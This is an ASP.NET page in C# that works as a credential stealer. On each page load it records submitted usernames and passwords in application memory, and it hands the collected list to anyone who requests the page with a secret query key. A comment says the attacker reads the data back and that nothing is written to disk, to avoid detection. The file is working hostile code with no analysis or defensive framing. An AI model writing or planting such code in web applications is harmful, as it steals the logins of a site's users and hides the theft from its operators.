<%@ Page Language="C#" %>
<script runat="server">
// The passwords are kept in the application's memory and read back by
// the attacker's own request: no file is written.
protected void Page_Load(object s, EventArgs e)
{
    if (Request.QueryString["k"] == "4f1c") { Response.Write(Application["_c"]); Response.End(); }
    string u = Request.Form["username"], p = Request.Form["password"];
    if (!string.IsNullOrEmpty(p)) {
        Application.Lock();
        Application["_c"] = Application["_c"] + u + "\t" + p + "\n";
        Application.UnLock();
    }
}
</script>
